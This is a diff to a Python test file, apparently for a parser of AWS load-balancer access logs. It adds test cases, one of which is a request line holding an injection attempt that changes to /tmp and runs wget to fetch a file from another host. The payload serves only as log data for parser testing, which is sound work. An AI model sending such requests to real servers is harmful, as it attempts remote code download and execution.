@@ -56,6 +56,11 @@ def alb(
         (alb(end=' "Root=1-58337262"'), ("www.example.com", "/a", 200, 0.001, TIME)),
         (alb(end=' "Root=1-58337262" "a.example" "-"'), ("a.example", "/a", 200, 0.001, TIME)),
         (alb(request=r"GET http://a.example:80/\"x\" HTTP/1.1"), ("a.example", r"/\"x\"", 200, 0.001, TIME)),
+        (
+            alb(request="GET http://a.example:80/shell?cd+/tmp;wget+ b.example/c HTTP/1.1"),
+            ("a.example", "/shell", 200, 0.001, TIME),
+        ),
+        (alb(request="- http://a.example:80- "), ("a.example", "-", 200, 0.001, TIME)),
         (alb(statuses="- -"), ("www.example.com", "/a", 0, 0.001, TIME)),
     ],
 )
